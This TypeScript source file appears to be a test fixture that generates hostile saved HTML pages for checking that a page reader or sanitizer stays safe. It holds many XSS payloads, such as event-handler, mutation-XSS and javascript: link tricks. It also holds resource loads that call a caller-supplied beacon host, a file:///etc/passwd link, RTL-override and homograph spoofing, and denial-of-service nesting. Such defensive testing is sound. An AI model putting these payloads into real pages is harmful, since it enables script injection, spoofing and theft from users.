/** Saved pages that want to run, fetch, mislead or exhaust. Each has a title and words that must come in all the same. */

export interface HostilePage {
  name: string
  html: string
  title: string
  says: string
}

/** @param beacon where each of them tries to call */
export function hostilePages(beacon: string): HostilePage[] {
  const at = (path: string): string => `${beacon}/${path}`
  const bodies: Record<string, string> = {
    scripts: `<script>window.pwned1=1;fetch('${at('fetch')}')</script><script src="${at('script.js')}"></script><script type="module">import '${at('module.js')}'</script>`,
    handlers: `<p onclick="window.pwned2=1" onmouseover="pwned2=1">按<img src=x onerror="window.pwned3=1"><body onload="window.pwned4=1"><details open ontoggle="window.pwned5=1"><summary>展</summary>开</details>`,
    frames: `<iframe src="${at('frame')}"></iframe><iframe srcdoc="<script>top.pwned6=1</script>"></iframe><object data="${at('object.swf')}"></object><embed src="${at('embed.swf')}"><portal src="${at('portal')}"></portal>`,
    svg: `<svg onload="window.pwned7=1"><script>window.pwned8=1</script><image href="${at('svg.png')}"/><use href="${at('svg.svg')}#a"/><foreignObject><iframe src="${at('foreign')}"></iframe></foreignObject></svg><math><mtext><img src=x onerror=pwned8=1></mtext></math>`,
    styles: `<style>@import url(${at('import.css')});body{background:url(${at('bg.png')})}@font-face{font-family:x;src:url(${at('font.woff')})}</style><p style="background:url(${at('inline.png')});position:fixed;inset:0;z-index:9999">罩<b style="font-family:x;behavior:url(${at('htc')})">字</b>`,
    links: `<link rel="stylesheet" href="${at('a.css')}"><link rel="prefetch" href="${at('prefetch')}"><link rel="dns-prefetch" href="${at('dns')}"><link rel="preload" as="image" href="${at('preload')}"><link rel="manifest" href="${at('manifest')}"><link rel="icon" href="${at('icon')}"><link rel="preconnect" href="http://preconnect.invalid"><link rel="dns-prefetch" href="//lookup.invalid"><script type="speculationrules">{"prefetch":[{"urls":["${at('rules')}"]}]}</script>`,
    refresh: `<meta http-equiv="refresh" content="0;url=${at('refresh')}"><base href="${at('base/')}"><meta http-equiv="Content-Security-Policy" content="default-src *"><p>续<a href="rel">相对</a>`,
    pictures: `<img src="${at('a.png')}" alt="图甲"><img srcset="${at('b.png')} 2x" alt="图乙"><picture><source srcset="${at('c.webp')}"><img src="${at('c.png')}" alt="图丙"></picture><video poster="${at('poster')}" src="${at('video')}" autoplay></video><audio src="${at('audio')}" autoplay></audio><input type="image" src="${at('input')}"><table background="${at('table')}"><tr><td>格<td>子</table>`,
    addresses: `<p><a href="javascript:window.pwned9=1">甲</a><a href="JaVa&#9;ScRiPt:pwned9=1">乙</a><a href="data:text/html,<script>opener.pwned9=1</script>">丙</a><a href="file:///etc/passwd">丁</a><a href="vbscript:x">戊</a><a href="//127.0.0.1">己</a><a ping="${at('ping')}" href="https://example.org/\u202Egnp.exe">庚</a><a href="https://аррӏе.example/">辛</a>`,
    forms: `<form action="${at('form')}"><input name="password" autofocus onfocus="window.pwned10=1"><button formaction="javascript:pwned10=1">送</button><textarea>框</textarea><select><option>选</select><p>表单里的字</p></form>`,
    mutation: `<noscript><p title="</noscript><img src=x onerror=window.pwned11=1>"></noscript><template><script>pwned11=1</script></template><xmp><img src=x onerror=pwned11=1></xmp><textarea></textarea><img src=x onerror=pwned11=1>`,
    bidi: `<p>收款人\u202E123\u202C与\u2066隔离\u2069，零宽\u200B字，软\u00AD连字`,
    comments: `<!--[if IE]><script>pwned12=1</script><![endif]--><!-- --!><img src=x onerror=pwned12=1> --><![CDATA[<img src=x onerror=pwned12=1>]]>`,
    attributes: `<p ${Array.from({ length: 20_000 }, (_, n) => `a${n}="${n}"`).join(' ')}>多</p><p title="${'长'.repeat(300_000)}">长</p><a href="https://example.org/${'a'.repeat(100_000)}">远</a>`,
    deep: `${'<div>'.repeat(50_000)}深${'</div>'.repeat(50_000)}`,
    spans: `<table>${`<tr>${'<td colspan=9999 rowspan=9999>格'.repeat(20)}`.repeat(50)}</table>`,
    jsonld: `<script type="application/ld+json">{"@type":"NewsArticle","headline":{"a":${'['.repeat(2000)}${']'.repeat(2000)}},"url":"javascript:pwned13=1","author":[{"name":"<img src=x onerror=pwned13=1>"}]}</script>`,
    names: `<p id="__proto__">原型</p><form name="constructor"><input name="hasOwnProperty"></form><a id="x" href="#__proto__">1</a>`,
  }
  return Object.entries(bodies).map(([name, body]) => ({
    name: `hostile-${name}.html`,
    title: `敌意页 ${name}`,
    says: `安然无恙 ${name}`,
    html: `<!doctype html><html><head><meta charset="utf-8"><title>敌意页 ${name}</title></head><body><h1>敌意页 ${name}</h1><div>${body}</div><p>安然无恙 ${name}</p></body></html>`,
  }))
}
